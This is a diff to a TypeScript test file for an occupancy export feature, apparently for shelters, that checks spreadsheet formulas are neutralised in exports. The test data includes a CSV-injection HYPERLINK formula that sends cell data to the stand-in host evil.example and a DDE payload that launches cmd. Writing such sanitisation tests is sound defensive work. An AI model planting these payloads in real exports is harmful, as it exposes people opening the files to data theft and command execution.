@@ -14,7 +14,7 @@ import { Harbour } from './support/harbour-harness';
 import { createReferral, REQUEST_PLACEMENT, smallNetwork } from './support/fixtures';
 
 const HOSTILE_CODE_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"open")';
-const HOSTILE_SUBJECT = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+const HOSTILE_SUBJECT = "@SUM(1+1)*cmd|' /C calc'!A0";
 
 describe('harbour export', () => {
   let h: Harbour;
@@ -46,7 +46,10 @@ describe('harbour export', () => {
   it('exports occupancy per shelter: beds by status and the referrals waiting for its region, formulas neutralised', async () => {
     const a = await smallNetwork(h, { beds: 3 });
     const b = await smallNetwork(h, { beds: 1 });
-    await h.ok(a.coordinator, 'mutation($id: ID!, $c: String!) { updateShelter(id: $id, input: { codeName: $c }) { id } }', { id: a.shelterId, c: HOSTILE_CODE_NAME });
+    await h.ok(a.coordinator, 'mutation($id: ID!, $c: String!) { updateShelter(id: $id, input: { codeName: $c }) { id } }', {
+      id: a.shelterId,
+      c: HOSTILE_CODE_NAME,
+    });
     // Shelter A: one bed held, one out of service, one free. Shelter B: its only bed held, then two more referrals wait for B's region.
     const held = await createReferral(h, a.officer, { acceptableRegions: [a.regionCode] });
     await h.ok(a.officer, REQUEST_PLACEMENT, { id: held });
